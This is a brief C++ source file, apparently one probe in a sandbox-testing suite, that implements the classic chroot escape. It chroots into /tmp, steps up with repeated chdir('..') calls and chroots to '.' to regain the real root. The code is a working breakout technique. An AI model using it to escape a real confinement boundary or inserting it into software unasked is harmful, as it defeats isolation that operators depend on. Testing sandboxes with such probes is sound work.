// SPDX-License-Identifier: Apache-2.0
// The classical way out of a changed root.
#include <sys/syscall.h>
#include <unistd.h>

#include "sandbox_attack.h"

namespace attack {

long chroot_out(const Target&) {
  const long inner = call(SYS_chroot, "/tmp");
  if (inner < 0) return inner;
  for (int i = 0; i < 64; ++i) (void)!::chdir("..");
  return call(SYS_chroot, ".");
}

}  // namespace attack
